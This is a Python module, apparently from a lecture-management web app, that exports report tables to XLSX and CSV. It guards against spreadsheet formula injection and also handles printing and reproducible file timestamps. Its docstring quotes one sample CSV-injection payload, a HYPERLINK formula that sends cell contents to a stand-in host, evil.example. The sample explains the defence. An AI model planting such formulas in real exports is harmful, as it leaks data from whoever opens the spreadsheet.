"""What every spreadsheet export does: report tables written as XLSX (openpyxl) or CSV (UTF-8 with BOM, as Excel
expects), with the text that would start a formula neutralised.

A cell whose text starts with = + - @ (or a tab or carriage return) is read by Excel, LibreOffice and
WPS as a formula: a leave reason like `=HYPERLINK("http://evil.example/?"&B2,"详情")` would run in the
coordinator's spreadsheet and send other cells away. OWASP's CSV-injection guidance: prefix such text
with a single quote, so it is shown as typed and never evaluated. Numbers and dates are written as
numbers and dates, not text, so they keep their type and are never touched.
"""
from __future__ import annotations

import csv
import functools
import io
import re
import zipfile
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal

from blinker import Namespace
from flask import Response, current_app, request, send_file
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from lecturehub.core.timeutil import to_local

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_signals = Namespace()
# Sent with path, filename and rows each time a table is downloaded; the audit log listens (core knows no audit).
table_exported = _signals.signal("table-exported")


def neutralise_formula(value):
    """`value` as a spreadsheet may safely receive it: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


FORMATS = {"xlsx", "csv"}


@dataclass
class Column:
    header: str
    kind: str = "text"  # text | int | number | percent | date | datetime


@dataclass
class Table:
    title: str
    columns: list[Column]
    rows: list[list] = field(default_factory=list)
    # Printed at the top of every page of the XLSX (which report, which lecture or venue); the title if empty.
    heading: str = ""


def _excel_value(value, kind: str):
    if value is None:
        return None
    if kind == "datetime" and isinstance(value, datetime):
        return to_local(value).replace(tzinfo=None)  # Excel has no time zones: local wall-clock time
    if kind == "date" and isinstance(value, datetime):
        return to_local(value).date()
    if kind == "percent" and isinstance(value, (int, float, Decimal)):
        return float(value) / 100
    if isinstance(value, Decimal):
        return float(value)
    return value


NUMBER_FORMATS = {"datetime": "yyyy-mm-dd hh:mm", "date": "yyyy-mm-dd", "percent": "0.0%", "number": "0.0",
                  "int": "0"}


def to_xlsx(table: Table) -> bytes:
    """One sheet: bold frozen header row, widths fitted to the content, dates as real dates.

    Written in openpyxl's write-only (streaming) mode, with lxml: a course matrix of 10,000 cells took
    about twice as long built as a whole worksheet in memory and then saved.
    """
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(table.title[:31] or "Sheet1")
    # Widths and print setup go before the first row: a streamed sheet writes its columns first.
    for index, column in enumerate(table.columns, start=1):
        width = max([_display_width(column.header)] + [_display_width(_text(r[index - 1], column.kind))
                                                       for r in table.rows[:500]])
        sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 8), 60)
    sheet.freeze_panes = "A2"
    set_up_printing(sheet, table)
    header_font, header_fill = Font(bold=True), PatternFill("solid", fgColor="F3EEEB")
    header_alignment = Alignment(vertical="center", wrap_text=True)  # full lecture titles, wrapped
    header = []
    for column in table.columns:
        cell = WriteOnlyCell(sheet, value=neutralise_formula(column.header))
        cell.font, cell.fill, cell.alignment = header_font, header_fill, header_alignment
        header.append(cell)
    sheet.append(header)
    formats = [NUMBER_FORMATS.get(c.kind) for c in table.columns]
    for row in table.rows:
        values = []
        for value, column, number_format in zip(row, table.columns, formats, strict=True):
            value = neutralise_formula(_excel_value(value, column.kind))
            if number_format and value is not None:
                value = WriteOnlyCell(sheet, value=value)
                value.number_format = number_format
            values.append(value)
        sheet.append(values)
    # A record filed upward must read the same when downloaded again: no save time inside the file.
    workbook.properties.created = workbook.properties.modified = REPRODUCIBLE_TIME
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _without_zip_times(buffer.getvalue())


# What a download says it was created at, instead of the moment of the download (as reproducible builds do).
REPRODUCIBLE_TIME = datetime(2000, 1, 1)
MODIFIED_STAMP = re.compile(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)")


def _without_zip_times(data: bytes) -> bytes:
    """The same archive with every member dated REPRODUCIBLE_TIME: zipfile stamps each part with the clock,
    so two downloads of an unchanged report would otherwise differ byte for byte."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=REPRODUCIBLE_TIME.timetuple()[:6])
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = info.external_attr
            content = source.read(info)
            if info.filename == "docProps/core.xml":
                # openpyxl's save stamps "modified" with the clock whatever the workbook says.
                content = MODIFIED_STAMP.sub(rb"\g<1>" + REPRODUCIBLE_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
                                             + rb"\g<2>", content)
            target.writestr(fixed, content)
    return out.getvalue()


# Wider than this (in Excel's character widths) and a sheet prints across an A4 page (landscape).
PORTRAIT_MAX_WIDTH = 70  # A4 portrait between default margins holds about 70 character widths


def set_up_printing(sheet, table: Table) -> None:
    """Print setup for a report sheet, so it comes out of Excel, WPS or LibreOffice ready to file: A4, as wide as
    the page (landscape when the columns are wide), the header row repeated on every page, the report named at
    the top of each page and the pages numbered at the foot."""
    total_width = sum(sheet.column_dimensions[get_column_letter(i)].width or 8
                      for i in range(1, len(table.columns) + 1))
    sheet.page_setup.paperSize = Worksheet.PAPERSIZE_A4
    sheet.page_setup.orientation = (Worksheet.ORIENTATION_LANDSCAPE if total_width > PORTRAIT_MAX_WIDTH
                                    else Worksheet.ORIENTATION_PORTRAIT)
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0  # as many pages down as the rows need
    sheet.print_title_rows = "1:1"
    sheet.print_options.gridLines = True
    # "&" starts a code in Excel's header language; a literal one is written twice.
    sheet.oddHeader.center.text = (table.heading or table.title).replace("&", "&&")
    sheet.oddFooter.center.text = "&P / &N"


@functools.lru_cache(maxsize=4096)  # a matrix repeats a handful of words thousands of times
def _display_width(text: str) -> int:
    # CJK characters take two columns in Excel's default font.
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)


def _text(value, kind: str) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        local = to_local(value)
        return local.strftime("%Y-%m-%d" if kind == "date" else "%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    if kind == "percent" and isinstance(value, (int, float, Decimal)):
        return f"{float(value):.1f}%"
    return str(value)


def _csv_cell(value, kind: str) -> str:
    # In CSV everything is text, so only what the database held as text is neutralised: a negative
    # number stays a number Excel can sum.
    text = _text(value, kind)
    return neutralise_formula(text) if isinstance(value, str) else text


def to_csv(table: Table) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralise_formula(c.header) for c in table.columns])
    for row in table.rows:
        writer.writerow([_csv_cell(v, c.kind) for v, c in zip(row, table.columns, strict=True)])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def download(table: Table, filename_stem: str, fmt: str) -> Response:
    """The table as an XLSX or CSV attachment; `table_exported` lets the audit log record who took it."""
    if fmt == "xlsx":
        data, mimetype = to_xlsx(table), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    else:
        data, mimetype = to_csv(table), "text/csv"  # Werkzeug adds "; charset=utf-8" to text types
    filename = f"{filename_stem}.{fmt}"
    table_exported.send(current_app._get_current_object(), path=request.full_path.rstrip("?"), filename=filename,
                        rows=len(table.rows))
    response = send_file(io.BytesIO(data), mimetype=mimetype, as_attachment=True, download_name=filename)
    response.headers["Cache-Control"] = "no-store"
    return response
